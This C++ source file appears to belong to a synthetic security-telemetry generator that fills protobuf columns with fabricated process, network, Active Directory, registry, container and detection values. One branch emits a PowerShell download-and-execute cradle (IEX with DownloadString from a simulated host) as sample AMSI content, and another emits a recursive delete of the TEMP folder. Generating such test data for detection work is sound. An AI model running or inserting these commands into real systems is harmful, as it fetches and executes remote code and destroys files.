#include "tarn/synthetic/SyntheticColumns.h"

#include <google/protobuf/descriptor.h>
#include <google/protobuf/message.h>

#include <string_view>

#include "tarn/synthetic/SyntheticCatalog.h"

namespace Tarn::Tool {
namespace {

using google::protobuf::FieldDescriptor;
using google::protobuf::Message;
using Plan::NumberRule;
using Plan::TextRule;

std::string JoinList(const std::vector<std::string>& items) {
  std::string out;
  for (const std::string& item : items) {
    if (!out.empty()) out.push_back(',');
    out += item;
  }
  return out;
}

}  // namespace

ColumnFiller::ColumnFiller(World& world) : world_(world) {}

void ColumnFiller::Fill(const Plan::Table& plan, Message& row, EventContext& context) {
  const google::protobuf::Descriptor& descriptor = *row.GetDescriptor();
  const google::protobuf::Reflection& reflection = *row.GetReflection();
  for (int i = 0; i < descriptor.field_count(); ++i) {
    const FieldDescriptor* field = descriptor.field(i);
    // The plan holds a rule for each field, of the kind the field's type takes.
    const uint8_t rule = plan.rules[static_cast<size_t>(field->number() - 1)];
    switch (field->cpp_type()) {
      case FieldDescriptor::CPPTYPE_UINT64:
        reflection.SetUInt64(&row, field, Number(NumberRule(rule), true, context));
        break;
      case FieldDescriptor::CPPTYPE_UINT32:
        reflection.SetUInt32(&row, field,
                             static_cast<uint32_t>(Number(NumberRule(rule), false, context)));
        break;
      case FieldDescriptor::CPPTYPE_STRING:
        reflection.SetString(&row, field, Text(TextRule(rule), context));
        break;
      default: break;
    }
  }
}

uint64_t ColumnFiller::Number(NumberRule rule, bool wide, EventContext& c) {
  Random& r = world_.random();
  const Process& a = *c.actor;
  const Process& o = c.other != nullptr ? *c.other : a;
  const User& user = c.user != nullptr ? *c.user : world_.UserOf(a);
  const bool linux = a.IsLinux();
  const bool all = c.every_column;
  switch (rule) {
    case NumberRule::kTime: return static_cast<uint64_t>(c.time_ms);
    case NumberRule::kPid: return a.pid;
    case NumberRule::kPuid: return a.puid;
    case NumberRule::kPidTime: return static_cast<uint64_t>(a.start_ms);
    case NumberRule::kParentPid: return a.parent_pid;
    case NumberRule::kParentPuid: return a.parent_puid;
    case NumberRule::kParentTime: return static_cast<uint64_t>(a.parent_start_ms);
    case NumberRule::kParentCrc: return HashOf(a.parent_path) & 0xFFFFFFFFu;
    case NumberRule::kOtherPid: return o.pid;
    case NumberRule::kOtherPuid: return o.puid;
    case NumberRule::kOtherTime: return static_cast<uint64_t>(o.start_ms);
    case NumberRule::kOtherUid: return world_.UserOf(o).uid;
    case NumberRule::kUid: return user.uid;
    case NumberRule::kGid: return user.gid;
    case NumberRule::kDbuid: return user.dbuid;
    case NumberRule::kPidSpace: return a.pid_space;
    case NumberRule::kProcessFlags:
      return (linux ? 0x1 : 0x2) | (a.elevation == 2 ? 0x10 : 0) | 0x100;
    case NumberRule::kOrigin: return r.Chance(0.9) ? 1 : 2;
    case NumberRule::kSpecialPermissions:
      return a.Info().flags & Catalog::kElevated ? 1 : (all ? 2 : 0);
    case NumberRule::kIntegrity: return linux && all ? 1 : a.integrity;
    case NumberRule::kElevation: return linux && all ? 1 : a.elevation;
    case NumberRule::kFileAttributes:
      return linux ? (all ? 0x80 : 0) : (r.Chance(0.7) ? 0x20 : 0x80);
    case NumberRule::kFilePermissions:
      return linux ? (r.Chance(0.8) ? 0644 : 0755) : (all ? 0x1F01FF : 0);
    case NumberRule::kChannel: return r.Chance(0.95) ? 1 : 2;
    case NumberRule::kFileFlags: return r.Chance(0.6) ? 0x80 : 0x4000080;
    case NumberRule::kFileType: return r.Chance(0.9) ? 1 : 2;
    case NumberRule::kBytes: {
      uint64_t n = r.Between(64, 4096) << r.Below(wide ? 14 : 10);
      return n;
    }
    case NumberRule::kEntropy: return r.Between(3000, 7999);
    case NumberRule::kLocalPort:
      return c.inbound ? world_.network().Peer(c.peer).port : c.local_port;
    case NumberRule::kRemotePort:
      return c.inbound ? c.local_port : world_.network().Peer(c.peer).port;
    case NumberRule::kDirection: return c.inbound ? 1 : 2;
    case NumberRule::kConnectionFlags: return r.Chance(0.8) ? 0x2 : 0x12;
    case NumberRule::kLayer: return 3;
    case NumberRule::kConnectionId: return c.connection_id;
    case NumberRule::kInterfaceId: return linux ? 2 : 12;
    case NumberRule::kStatusCode: {
      static constexpr uint32_t kCodes[] = {200, 200, 200, 200, 200, 204, 301, 304, 401, 404};
      return r.Pick(kCodes);
    }
    case NumberRule::kTicketOptions: return 0x40810010;
    case NumberRule::kUac: return r.Chance(0.9) ? 512 : 66048;
    case NumberRule::kLoginType: {
      static constexpr uint32_t kTypes[] = {2, 2, 3, 3, 3, 5, 7, 10, 11};
      return r.Pick(kTypes);
    }
    case NumberRule::kLogonId: return r.Chance(0.3) ? 0x3E7 : 0x10000 + r.Below(0xFFFFF);
    case NumberRule::kPrivileges: return r.Chance(0.5) ? 0x100000 : 0x100020;
    case NumberRule::kAccess: return r.Chance(0.5) ? 0x120089 : 0x100;
    case NumberRule::kDataType: return r.Chance(0.6) ? 1 : (r.Chance(0.7) ? 4 : 3);
    case NumberRule::kStartType: return r.Between(2, 4);
    case NumberRule::kServiceStatus: return r.Chance(0.7) ? 4 : 1;
    case NumberRule::kBool: return all ? 1 : r.Below(2);
    case NumberRule::kRareBool: return all || r.Chance(0.03) ? 1 : 0;
    case NumberRule::kMostlyTrue: return r.Chance(0.95) || all ? 1 : 0;
    case NumberRule::kZero: return all || r.Chance(0.05) ? 5 : 0;
    case NumberRule::kSignal: {
      static constexpr uint32_t kSignals[] = {15, 15, 9, 1, 2, 17};
      return r.Pick(kSignals);
    }
    case NumberRule::kDuration: return r.Between(60, 7200);
    case NumberRule::kGeneric: break;
  }
  return r.Between(1, 8);  // a small number
}

std::string ColumnFiller::Text(TextRule rule, EventContext& c) {
  Random& r = world_.random();
  const Process& a = *c.actor;
  const Process& o = c.other != nullptr ? *c.other : a;
  const User& user = c.user != nullptr ? *c.user : world_.UserOf(a);
  const User& other_user = c.other_user != nullptr ? *c.other_user : world_.UserOf(o);
  const RemoteHost& peer = world_.network().Peer(c.peer);
  const bool linux = a.IsLinux();
  const bool all = c.every_column;
  const bool v6 = peer.address.find(':') != std::string::npos;
  auto list = [&](auto make) {
    std::vector<std::string> items;
    for (uint32_t i = 0; i < c.list_items; ++i) items.push_back(make(i));
    return JoinList(items);
  };
  auto sid_of = [&](const User& u) {
    if (!u.sid.empty()) return u.sid;
    return "S-1-22-1-" + std::to_string(u.uid);  // a Unix user as Windows names one
  };
  auto dn_of = [&](const User& u) {
    return "CN=" + u.name + ",OU=Users,OU=Corp,DC=corp,DC=example,DC=com";
  };
  switch (rule) {
    case TextRule::kCommandLine: return a.command_line;
    case TextRule::kArgOffsets: {
      std::string out;
      for (uint64_t offset : a.arg_offsets) {
        if (!out.empty()) out.push_back(',');
        out += std::to_string(offset);
      }
      return out.empty() && all ? "0" : out;
    }
    case TextRule::kProcessName: return a.name;
    case TextRule::kProcessPath: return a.path;
    case TextRule::kCwd: return a.cwd;
    case TextRule::kEnvironment:
      if (!all && r.Chance(0.7)) return "";
      return linux ? "PATH=/usr/local/bin:/usr/bin:/bin HOME=" + world_.Home(user, true) +
                         " LANG=C.UTF-8"
                   : "PATH=C:\\Windows\\system32;C:\\Windows TEMP=" + world_.Home(user, false) +
                         "\\AppData\\Local\\Temp";
    case TextRule::kContainerId:
      return a.container_id.empty() && all ? world_.ContainerId(0) : a.container_id;
    case TextRule::kFile: return c.file.empty() ? world_.FilePath(a) : c.file;
    case TextRule::kFile2: return c.file2.empty() ? world_.FilePath(a) : c.file2;
    case TextRule::kMount: return linux ? "/media/" + user.name + "/USB" : "E:\\";
    case TextRule::kBytes:  // a text column: the first bytes written, in hex
      return World::Hex(c.file, 32);
    case TextRule::kAttributeName:
      return linux ? "user.xdg.origin.url" : (r.Chance(0.5) ? "Zone.Identifier" : "description");
    case TextRule::kLocalIp: return world_.network().LocalAddress(v6);
    case TextRule::kRemoteIp: return peer.address;
    case TextRule::kProtocol: return peer.protocol == "DNS" ? "UDP" : "TCP";
    case TextRule::kExpectedProtocol: return peer.protocol;
    case TextRule::kLocalMac: return world_.network().LocalMac();
    case TextRule::kRemoteMac: {
      if (!peer.internal)
        return world_.network().GatewayMac();  // outside hosts are behind the router
      std::string hex = World::Hex(peer.address, 6);
      return "00:1a:2b:" + hex.substr(0, 2) + ":" + hex.substr(2, 2) + ":" + hex.substr(4, 2);
    }
    case TextRule::kGatewayMacs: return world_.network().GatewayMac();
    case TextRule::kInterfaceName: return linux ? "eth0" : "Ethernet";
    case TextRule::kHost: return peer.host;
    case TextRule::kUrlPath: return std::string(r.Pick(Catalog::UrlPaths()));
    case TextRule::kMethod: return r.Chance(0.8) ? "GET" : "POST";
    case TextRule::kUserAgent: return std::string(r.Pick(Catalog::UserAgents()));
    case TextRule::kMime: return std::string(r.Pick(Catalog::MimeTypes()));
    case TextRule::kReferer: return r.Chance(0.5) && !all ? "" : "https://" + peer.host + "/";
    case TextRule::kUri: return "https://" + peer.host + std::string(r.Pick(Catalog::UrlPaths()));
    case TextRule::kAuthorization: return "Negotiate " + World::Hex(peer.host + user.name, 40);
    case TextRule::kCipher:
      return r.Chance(0.7) ? "TLS_AES_256_GCM_SHA384" : "TLS_AES_128_GCM_SHA256";
    case TextRule::kKerberosCipher: return r.Chance(0.8) ? "0x12" : "0x17";
    case TextRule::kSpn:
      return r.Chance(0.5) ? "krbtgt/CORP.EXAMPLE.COM" : "cifs/fs01.corp.example.com";
    case TextRule::kSharePath: return r.Chance(0.5) ? "\\\\*\\IPC$" : "\\\\*\\share";
    case TextRule::kTreeName: return "\\\\fs01.corp.example.com\\share";
    case TextRule::kRpcInterface: return "367abb81-9844-35f1-ad32-98f038001003";
    case TextRule::kSamr:
      return r.Chance(0.5) ? "SamrEnumerateUsersInDomain" : "SamrQueryInformationUser";
    case TextRule::kRegistryOperation: return r.Chance(0.5) ? "OpenKey" : "QueryValue";
    case TextRule::kSocketPath:
      return linux ? "/run/docker.sock" : "\\\\.\\pipe\\" + std::string(r.Pick(Catalog::Words()));
    case TextRule::kUserName: return user.name;
    case TextRule::kOtherUserName: return other_user.name;
    case TextRule::kDomain: return user.domain.empty() ? world_.Domain() : user.domain;
    case TextRule::kDnsDomain: return world_.DnsDomain();
    case TextRule::kSid: return sid_of(user);
    case TextRule::kOtherSid: return sid_of(other_user);
    case TextRule::kGroupSid: return world_.DomainSid() + (r.Chance(0.5) ? "-512" : "-513");
    case TextRule::kGroupName: return r.Chance(0.5) ? "Domain Admins" : "Remote Desktop Users";
    case TextRule::kGroups:
      return list([&](uint32_t i) {
        static constexpr std::string_view kGroupNames[] = {"Domain Users", "VPN Users",
                                                           "Developers", "Remote Desktop Users"};
        return std::string(kGroupNames[i % 4]);
      });
    case TextRule::kSidHistory: return all || r.Chance(0.1) ? world_.DomainSid() + "-2231" : "";
    case TextRule::kClaims:
      return list([&](uint32_t i) { return i == 0 ? "department=Engineering" : "country=DE"; });
    case TextRule::kGuid: return "{" + world_.Guid() + "}";
    case TextRule::kLogonProcess: return r.Chance(0.6) ? "User32" : "Kerberos";
    case TextRule::kAuthPackage: return r.Chance(0.7) ? "Negotiate" : "NTLM";
    case TextRule::kDn: return dn_of(c.other_user != nullptr ? other_user : user);
    case TextRule::kGroupDn: return "CN=Developers,OU=Groups,OU=Corp,DC=corp,DC=example,DC=com";
    case TextRule::kNamingContext: return "DC=corp,DC=example,DC=com";
    case TextRule::kDra:
      return "CN=NTDS Settings,CN=DC0" + std::to_string(r.Between(1, 2)) +
             ",CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=corp,DC=example,"
             "DC=com";
    case TextRule::kObjectClass:
      return r.Chance(0.6) ? "user" : (r.Chance(0.5) ? "group" : "computer");
    case TextRule::kAttributeNames:
      return list([](uint32_t i) { return i % 2 == 0 ? "userAccountControl" : "description"; });
    case TextRule::kAttributeValues:
      return list([](uint32_t i) { return i % 2 == 0 ? "512" : "workstation"; });
    case TextRule::kPassword: {
      // One draw a statement: the operands of + may be evaluated in any order.
      std::string word(r.Pick(Catalog::Words()));
      return word + std::to_string(r.Between(10, 99)) + "!";
    }
    case TextRule::kPasswordHash: return World::Hex(user.name + "pw", 32);
    case TextRule::kKey:
      return c.key.empty() ? std::string(r.Pick(Catalog::RegistryKeys())) : c.key;
    case TextRule::kKey2:
      return "HKU\\" + sid_of(user) + "_Classes\\VirtualStore\\MACHINE\\SOFTWARE";
    case TextRule::kValueName: return std::string(r.Pick(Catalog::RegistryValues()));
    case TextRule::kRegistryData: return r.Chance(0.5) ? a.path : std::to_string(r.Below(100000));
    case TextRule::kName: return c.name.empty() ? std::string(r.Pick(Catalog::Words())) : c.name;
    case TextRule::kName2: return c.name + (all || r.Chance(0.5) ? "_v2" : "");
    case TextRule::kServicePath:
    case TextRule::kServiceCommand:
      return c.file2.empty() ? "C:\\Windows\\System32\\svchost.exe -k netsvcs" : c.file2;
    case TextRule::kTaskCommands:
      return list([&](uint32_t) { return c.file2.empty() ? a.path : c.file2; });
    case TextRule::kTaskPaths: return list([&](uint32_t) { return a.path; });
    case TextRule::kActions:
      return list([](uint32_t i) { return i == 0 ? "blocked" : "reported"; });
    case TextRule::kSeverities:
      return list([&](uint32_t i) { return std::to_string(i == 0 ? 4 : 2); });
    case TextRule::kDetectionTypes:
      return list([](uint32_t i) { return i == 0 ? "malware" : "suspicious_behavior"; });
    case TextRule::kEngines: return list([](uint32_t i) { return i == 0 ? "AMSI" : "ML"; });
    case TextRule::kDetectionNames:
      return list([&](uint32_t) { return std::string(r.Pick(Catalog::DetectionNames())); });
    case TextRule::kExtraKeys: {
      static constexpr std::string_view kKeys[] = {"rule", "technique", "parent_image", "score"};
      c.keys.clear();
      for (uint32_t i = 0; i < c.list_items; ++i) c.keys.emplace_back(kKeys[i % 4]);
      return JoinList(c.keys);
    }
    case TextRule::kExtraValues:
      return list([&](uint32_t i) -> std::string {
        // Both arms views: a std::string arm would make the view dangle.
        std::string_view key = i < c.keys.size() ? std::string_view(c.keys[i]) : "rule";
        if (key == "technique") return "T1059.001";
        if (key == "parent_image") return o.path;
        if (key == "score") return std::to_string(r.Between(40, 99));
        return "R" + std::to_string(r.Between(1000, 9999));
      });
    case TextRule::kSsid: return r.Chance(0.8) ? "CorpWiFi" : "Guest";
    case TextRule::kSubject: {
      std::string prefix = r.Chance(0.4) ? "RE: " : "";
      return prefix + std::string(r.Pick(Catalog::DocumentNames()));
    }
    case TextRule::kMd5List:
      return list([&](uint32_t i) { return World::Hex(c.file + std::to_string(i), 32); });
    case TextRule::kMimeList:
      return list([](uint32_t i) {
        return i == 0 ? "application/pdf"
                      : "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
      });
    case TextRule::kDocList:
      return list([&](uint32_t) { return std::string(r.Pick(Catalog::DocumentNames())) + ".pdf"; });
    case TextRule::kUriList:
      return list(
          [&](uint32_t) { return "https://" + peer.host + "/d/" + World::Hex(peer.host, 8); });
    case TextRule::kEmailSelf: return world_.InteractiveUser().name + "@" + world_.DnsDomain();
    case TextRule::kEmailOther: return world_.AnyUser(false).name + "@" + world_.DnsDomain();
    case TextRule::kSha1List:
      return list([&](uint32_t i) { return World::Hex(c.file + "1" + std::to_string(i), 40); });
    case TextRule::kSha256List:
      return list([&](uint32_t i) { return World::Hex(c.file + "2" + std::to_string(i), 64); });
    case TextRule::kIssuer: return r.Chance(0.8) ? "Microsoft Windows" : "Example Hardware Inc.";
    case TextRule::kAmsiBuffer:
      return a.command_line.find("-Enc") != std::string::npos
                 ? "IEX (New-Object Net.WebClient).DownloadString('https://" +
                       world_.network().Peer(c.peer).host + "/a.ps1')"
                 : "Get-ChildItem -Path $env:TEMP | Remove-Item -Recurse";
    case TextRule::kDataSource: return r.Chance(0.8) ? "PowerShell" : "VBScript";
    case TextRule::kLogLine:
      return "sshd[" + std::to_string(a.pid) + "]: Accepted publickey for " + user.name + " from " +
             peer.address;
    case TextRule::kLogPath: return linux ? "/var/log/auth.log" : "C:\\Windows\\Logs\\CBS\\CBS.log";
    case TextRule::kShellCommand: return a.command_line;
    case TextRule::kDockerCommand: return "nginx -g 'daemon off;'";
    case TextRule::kPorts: return "80/tcp";
    case TextRule::kPublishedPorts: return "0.0.0.0:8080->80/tcp";
    case TextRule::kCapabilities:
      return list([](uint32_t i) { return i == 0 ? "CAP_CHOWN" : "CAP_NET_BIND_SERVICE"; });
    case TextRule::kDevices: return all || r.Chance(0.1) ? "/dev/fuse" : "";
    case TextRule::kDnsServers: return "10.20.0.10";
    case TextRule::kEntrypoint: return "/docker-entrypoint.sh";
    case TextRule::kContainerEnv: return "NGINX_VERSION=1.27.2";
    case TextRule::kImageId: return "sha256:" + World::Hex(c.name + "image", 64);
    case TextRule::kImageName: return std::string(r.Pick(Catalog::ImageNames()));
    case TextRule::kContainerIps: return "172.17.0." + std::to_string(r.Between(2, 9));
    case TextRule::kMounts: return "/var/lib/docker/volumes/data/_data:/data";
    case TextRule::kNetworks: return "bridge";
    case TextRule::kVolumes: return "/data";
    case TextRule::kHostname: return World::Hex(c.name, 12);
    case TextRule::kSambaUsers: return world_.Domain() + "\\" + world_.InteractiveUser().name;
    case TextRule::kSambaPermissions: return "0770";
    case TextRule::kWmiMethod: return "Create";
    case TextRule::kWmiClass: return "Win32_Process";
    case TextRule::kWmiConsumer: return "SCM Event Log Consumer";
    case TextRule::kWmiCause: return "__InstanceModificationEvent";
    case TextRule::kWmiFilter:
      return "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
             "'Win32_Service'";
    case TextRule::kWmiOperation:
      return "IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_Process";
    case TextRule::kFilterName: return "Block inbound SMB";
    case TextRule::kRuleName: return c.name.empty() ? "Allow " + a.name : c.name;
    case TextRule::kPortsList: return "443,8443";
    case TextRule::kMask: return "255.255.255.0";
    case TextRule::kMediaType: return "Ethernet";
    case TextRule::kPrinterFile: return std::string(r.Pick(Catalog::DocumentNames())) + ".pdf";
    case TextRule::kGeneric: break;
  }
  std::string word(r.Pick(Catalog::Words()));
  return word + "-" + std::to_string(r.Between(1, 99));
}

}  // namespace Tarn::Tool
